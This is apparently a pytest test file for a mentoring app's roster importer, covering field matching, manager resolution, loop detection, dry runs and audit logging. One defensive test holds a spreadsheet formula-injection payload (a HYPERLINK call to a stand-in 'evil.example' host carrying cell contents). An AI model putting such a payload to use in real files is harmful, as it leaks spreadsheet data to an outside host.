"""Importing people: matching, managers anywhere in the file, loops, and all-or-nothing."""

from __future__ import annotations

import pytest
from sqlalchemy import select

from mentordesk.errors import MentorDeskError
from mentordesk.importing import RowAction, import_people
from mentordesk.store.models import AuditEntry, Person
from tests.factories import make_person
from tests.importing.conftest import audit_count, people_count, person

HEADER = ["Name", "Email", "Employee ID", "Department", "Manager", "Skills", "Can mentor"]


def run(database, path, **options):
    with database.transaction() as session:
        return import_people(session, path, **options)


def test_a_clean_file_creates_everyone(database, write_csv):
    path = write_csv(
        [
            HEADER,
            ["Ana Ruiz", "Ana@Example.org", "E1", "Platform", "", "python; sql", "yes"],
            ["Bo Li", "bo@example.org", "E2", "Finance", "ana@example.org", "", "no"],
        ]
    )
    report = run(database, path)
    assert (report.created, report.updated, report.refused, report.written) == (2, 0, 0, True)
    with database.transaction() as session:
        ana = person(session, "ana@example.org")
        bo = person(session, "bo@example.org")
        assert ana.skills == ["python", "sql"]
        assert ana.can_mentor is True
        assert ana.capacity == 1  # the people service's default for a new mentor
        assert bo.manager_id == ana.id
        assert bo.capacity == 0


def test_synonyms_and_first_plus_last_name(database, write_csv):
    path = write_csv(
        [
            [
                "First name",
                "Surname",
                "Work E-mail",
                "Staff ID",
                "Dept",
                "Job title",
                "Office",
                "Interests",
                "Is mentor",
                "Mentee capacity",
            ],
            [
                "Zoë",
                "Ångström",
                "zoe@example.org",
                "S-9",
                "Design",
                "Lead",
                "Porto",
                "ux, research",
                "Y",
                "3",
            ],
        ],
        delimiter=";",
    )
    report = run(database, path)
    assert report.created == 1
    with database.transaction() as session:
        zoe = person(session, "zoe@example.org")
        assert (zoe.name, zoe.employee_id, zoe.department, zoe.title, zoe.location) == (
            "Zoë Ångström",
            "S-9",
            "Design",
            "Lead",
            "Porto",
        )
        assert (zoe.skills, zoe.can_mentor, zoe.capacity) == (["ux", "research"], True, 3)


def test_matched_by_email_then_employee_id_and_updated_not_duplicated(database, write_csv):
    with database.transaction() as session:
        by_email = make_person(session, name="Ana", email="ana@example.org", employee_id="E1")
        by_id = make_person(session, name="Bo", email="old-bo@example.org", employee_id="E2")
        ids = (by_email.id, by_id.id)
        versions = (by_email.version, by_id.version)
    path = write_csv(
        [
            ["Name", "Email", "Employee ID", "Department"],
            ["Ana Ruiz", "ANA@example.org", "", "Legal"],
            ["Bo Li", "bo@example.org", "e2", "Platform"],
        ]
    )
    report = run(database, path)
    assert [row.action for row in report.rows] == [RowAction.UPDATED, RowAction.UPDATED]
    assert report.rows[0].changed == ("name", "department")
    with database.transaction() as session:
        assert people_count(session) == 2
        ana, bo = session.get(Person, ids[0]), session.get(Person, ids[1])
        assert (ana.name, ana.employee_id, ana.department) == ("Ana Ruiz", "E1", "Legal")
        assert (bo.email, bo.employee_id) == ("bo@example.org", "E2")
        # Changed in SQL, but the version still moves so an open form notices.
        assert (ana.version, bo.version) == (versions[0] + 1, versions[1] + 1)


def test_importing_the_same_file_twice_changes_nothing(database, write_csv):
    path = write_csv([HEADER, ["Ana", "ana@example.org", "E1", "Ops", "", "sql", "yes"]])
    run(database, path)
    report = run(database, path)
    assert [row.action for row in report.rows] == [RowAction.UNCHANGED]
    with database.transaction() as session:
        assert people_count(session) == 1


def test_managers_may_come_later_in_the_file_and_by_employee_id(database, write_csv):
    path = write_csv(
        [
            HEADER,
            ["Cy", "cy@example.org", "E3", "", "e2", "", ""],
            ["Bo", "bo@example.org", "E2", "", "ana@example.org", "", ""],
            ["Ana", "ana@example.org", "E1", "", "", "", ""],
        ]
    )
    report = run(database, path)
    assert report.created == 3
    with database.transaction() as session:
        ana, bo, cy = (person(session, f"{n}@example.org") for n in ("ana", "bo", "cy"))
        assert (cy.manager_id, bo.manager_id, ana.manager_id) == (bo.id, ana.id, None)


def test_a_manager_already_in_the_database(database, write_csv):
    with database.transaction() as session:
        boss = make_person(session, email="boss@example.org", employee_id="B1")
        boss_id = boss.id
    report = run(database, write_csv([HEADER, ["Ana", "ana@example.org", "", "", "b1", "", ""]]))
    assert report.created == 1
    with database.transaction() as session:
        assert person(session, "ana@example.org").manager_id == boss_id


def test_an_unknown_manager_is_refused_with_the_line_and_reason(database, write_csv):
    rows = [HEADER] + [[f"P{n}", f"p{n}@example.org", f"E{n}", "", "", "", ""] for n in range(12)]
    rows.append(["Dee", "dee@example.org", "E99", "", "e9931", "", ""])
    report = run(database, write_csv(rows))
    assert report.refusal_lines() == ["line 14: manager 'e9931' is not in the file or the database"]
    assert not report.written
    with database.transaction() as session:
        assert people_count(session) == 0


def test_manager_loops_in_the_file_are_refused(database, write_csv):
    path = write_csv(
        [
            HEADER,
            ["Ana", "ana@example.org", "", "", "bo@example.org", "", ""],
            ["Bo", "bo@example.org", "", "", "cy@example.org", "", ""],
            ["Cy", "cy@example.org", "", "", "ana@example.org", "", ""],
            ["Dee", "dee@example.org", "", "", "ana@example.org", "", ""],
            ["Eve", "eve@example.org", "", "", "eve@example.org", "", ""],
            ["Fay", "fay@example.org", "", "", "", "", ""],
        ]
    )
    report = run(database, path, skip_invalid=True)
    reasons = {row.line: row.reason for row in report.refused_rows}
    assert set(reasons) == {2, 3, 4, 5, 6}
    assert "would make a loop in the reporting lines (Ana → Bo → Cy → Ana)" in reasons[2]
    assert reasons[5] == "manager 'ana@example.org' is on line 2, which is refused"
    assert reasons[6] == "Eve cannot be their own manager"
    with database.transaction() as session:
        assert people_count(session) == 1


def test_a_loop_through_the_database_is_refused(database, write_csv):
    with database.transaction() as session:
        ana = make_person(session, name="Ana", email="ana@example.org")
        make_person(session, name="Bo", email="bo@example.org", manager_id=ana.id)
    # Ana would report to Bo, who already reports to Ana.
    path = write_csv([["Name", "Email", "Manager"], ["Ana", "ana@example.org", "bo@example.org"]])
    report = run(database, path)
    assert report.refused_rows[0].reason == (
        "manager 'bo@example.org' would make a loop in the reporting lines (Ana → Bo → Ana)"
    )
    with database.transaction() as session:
        assert person(session, "ana@example.org").manager_id is None


def test_a_loop_the_file_breaks_is_allowed(database, write_csv):
    with database.transaction() as session:
        ana = make_person(session, name="Ana", email="ana@example.org")
        make_person(session, name="Bo", email="bo@example.org", manager_id=ana.id)
    path = write_csv(
        [
            ["Name", "Email", "Manager"],
            ["Bo", "bo@example.org", ""],
            ["Ana", "ana@example.org", "bo@example.org"],
        ]
    )
    report = run(database, path)
    assert report.refused == 0
    with database.transaction() as session:
        assert person(session, "ana@example.org").manager_id == person(session, "bo@example.org").id
        assert person(session, "bo@example.org").manager_id is None


def test_by_default_one_refused_row_means_nothing_is_written(database, write_csv):
    path = write_csv(
        [
            HEADER,
            ["Ana", "ana@example.org", "", "", "", "", "yes"],
            ["Bo", "not-an-email", "", "", "", "", ""],
            ["Cy", "cy@example.org", "", "", "", "", "perhaps"],
        ]
    )
    with database.transaction() as session:
        before = audit_count(session)
    report = run(database, path)
    assert not report.written
    assert report.refusal_lines() == [
        "line 3: the email 'not-an-email' is not an email address",
        "line 4: can mentor 'perhaps' is not yes or no (write yes/no, true/false, 1/0 or y/n)",
    ]
    assert "Nothing was imported" in report.summary()
    with database.transaction() as session:
        assert people_count(session) == 0
        assert audit_count(session) == before


def test_skip_invalid_writes_the_valid_rows(database, write_csv):
    path = write_csv(
        [
            HEADER,
            ["Ana", "ana@example.org", "", "", "", "", "yes"],
            ["", "nameless@example.org", "", "", "", "", ""],
            ["Bo", "bo@example.org", "", "", "", "", ""],
        ]
    )
    report = run(database, path, skip_invalid=True)
    assert (report.created, report.refused, report.written) == (2, 1, True)
    assert report.refusal_lines() == ["line 3: the name is missing"]
    with database.transaction() as session:
        assert people_count(session) == 2


def test_dry_run_writes_nothing_at_all(database, write_csv):
    with database.transaction() as session:
        make_person(session, name="Ana", email="ana@example.org", department="Old")
        before = audit_count(session)
    path = write_csv(
        [
            ["Name", "Email", "Department"],
            ["Ana", "ana@example.org", "New"],
            ["Bo", "bo@example.org", "Ops"],
        ]
    )
    report = run(database, path, dry_run=True)
    assert (report.created, report.updated, report.written) == (1, 1, False)
    assert report.describe(report.rows[0]) == "line 2: update: Ana (ana@example.org) (department)"
    assert report.describe(report.rows[1]) == "line 3: new: Bo (bo@example.org)"
    with database.transaction() as session:
        assert people_count(session) == 1
        assert person(session, "ana@example.org").department == "Old"
        assert audit_count(session) == before


def test_the_audit_log_gets_one_summary_entry(database, write_csv):
    rows = [HEADER] + [[f"P{n}", f"p{n}@example.org", "", "", "", "", ""] for n in range(50)]
    with database.transaction() as session:
        before = audit_count(session)
    run(database, write_csv(rows, name="staff.csv"))
    with database.transaction() as session:
        assert audit_count(session) == before + 1
        entry = session.scalars(select(AuditEntry).order_by(AuditEntry.id.desc())).first()
        assert (entry.action, entry.record_type) == ("create", "person")
        assert entry.summary == "Roster import from staff.csv: 50 people added, 0 updated"
        assert session.info.get("audit", True) is True
    # Later edits in the same kind of session are audited again, one by one.
    with database.transaction() as session:
        person(session, "p1@example.org").title = "Lead"
    with database.transaction() as session:
        assert audit_count(session) == before + 2


def test_duplicates_in_the_file_and_identities_that_disagree(database, write_csv):
    with database.transaction() as session:
        make_person(session, name="Ana", email="ana@example.org", employee_id="E1")
        make_person(session, name="Bo", email="bo@example.org", employee_id="E2")
    path = write_csv(
        [
            ["Name", "Email", "Employee ID"],
            ["Cy", "cy@example.org", "E3"],
            ["Cy again", "cy@example.org", "E4"],
            ["Dee", "dee@example.org", "E3"],
            ["Ana?", "ana@example.org", "E2"],
            ["Ana Ruiz", "", "E1"],
            ["Ana R.", "ana@example.org", ""],
            ["Nobody", "", ""],
        ]
    )
    report = run(database, path, skip_invalid=True)
    assert report.refusal_lines() == [
        "line 3: the email cy@example.org is also on line 2",
        "line 4: the employee id E3 is also on line 2",
        "line 5: the email ana@example.org belongs to Ana, but the employee id E2 belongs to Bo",
        "line 7: Ana is already on line 6 (matched by email or employee id)",
        "line 8: Nobody has neither an email nor an employee id, so they could not be found "
        "again on the next import",
    ]


def test_formula_injection_in_a_name_is_kept_as_plain_text(database, write_csv):
    name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    report = run(database, write_csv([["Name", "Email"], [name, "x@example.org"]]))
    assert report.created == 1
    with database.transaction() as session:
        assert person(session, "x@example.org").name == name


def test_ragged_rows_are_refused_short_rows_are_fine(database, tmp_path):
    path = tmp_path / "ragged.csv"
    path.write_text(
        "name,email,department\n"
        "Ana,ana@example.org\n"
        "Bo,bo@example.org,Ops,Lisbon,extra\n"
        "Cy,cy@example.org,Ops,,\n",
        encoding="utf-8",
    )
    report = run(database, path, skip_invalid=True)
    assert [row.action for row in report.rows] == [
        RowAction.CREATED,
        RowAction.REFUSED,
        RowAction.CREATED,
    ]
    assert "2 values beyond the last column heading" in report.rows[1].reason


def test_empty_cells_keep_yes_no_and_numbers_but_clear_text(database, write_csv):
    with database.transaction() as session:
        make_person(
            session,
            email="ana@example.org",
            department="Ops",
            can_mentor=True,
            capacity=4,
        )
    path = write_csv(
        [
            ["Name", "Email", "Department", "Can mentor", "Capacity"],
            ["Ana", "ana@example.org", "", "", ""],
        ]
    )
    run(database, path)
    with database.transaction() as session:
        ana = person(session, "ana@example.org")
        assert (ana.department, ana.can_mentor, ana.capacity) == (None, True, 4)


def test_the_active_column(database, write_csv):
    path = write_csv(
        [
            ["Name", "Email", "Active"],
            ["Ana", "a@example.org", "left"],
            ["Bo", "b@example.org", "yes"],
        ]
    )
    run(database, path)
    with database.transaction() as session:
        assert person(session, "a@example.org").active is False
        assert person(session, "b@example.org").active is True


def test_files_without_the_needed_columns(database, write_csv):
    with pytest.raises(MentorDeskError, match="no column for the name"):
        run(database, write_csv([["Email"], ["a@example.org"]]))
    with pytest.raises(MentorDeskError, match="no column for the email or the employee id"):
        run(database, write_csv([["Name", "Shoe size"], ["Ana", "38"]]))


def test_too_many_tags_uses_the_people_service_rule(database, write_csv):
    tags = "; ".join(f"tag{n}" for n in range(60))
    report = run(database, write_csv([["Name", "Email", "Skills"], ["Ana", "a@example.org", tags]]))
    assert report.refused_rows[0].reason.startswith("a person can have at most")


def test_xlsx_people_with_numbers_as_employee_ids(database, write_xlsx):
    path = write_xlsx(
        [
            ["Name", "Employee number", "Line manager", "Can mentor", "Capacity"],
            ["Ana", 1001, None, True, 2.0],
            ["Bo", 1002, 1001, False, None],
        ]
    )
    report = run(database, path)
    assert report.created == 2
    assert report.line_word == "row"
    with database.transaction() as session:
        ana = session.scalar(select(Person).where(Person.employee_id == "1001"))
        bo = session.scalar(select(Person).where(Person.employee_id == "1002"))
        assert (ana.can_mentor, ana.capacity, bo.manager_id) == (True, 2, ana.id)


def test_unknown_columns_are_reported(database, write_csv):
    report = run(database, write_csv([["Name", "Email", "Shoe size"], ["Ana", "a@x.org", "38"]]))
    assert report.ignored_columns == ("Shoe size",)


def test_a_bad_date_format_option_is_refused(database, write_csv):
    with pytest.raises(MentorDeskError, match="not a date format"):
        run(database, write_csv([["Name", "Email"]]), date_format="ymd")


def test_a_clash_with_a_save_made_meanwhile_rolls_the_whole_import_back(
    database, write_csv, monkeypatch
):
    from mentordesk.importing import people as importer

    with database.transaction() as session:
        make_person(session, name="Ana", email="ana@example.org")
        before = audit_count(session)
    path = write_csv([["Name", "Email"], ["Bo", "bo@example.org"], ["Ana Ruiz", "ana@example.org"]])
    # As if Ana had been saved by someone else after the import read the database.
    empty = importer._Directory({}, {}, {})
    monkeypatch.setattr(importer, "_load_existing", lambda session: empty)
    with pytest.raises(MentorDeskError, match="Someone else changed the same records"):
        run(database, path)
    with database.transaction() as session:
        assert people_count(session) == 1
        assert person(session, "ana@example.org").name == "Ana"
        assert audit_count(session) == before
        assert session.info.get("audit", True) is True
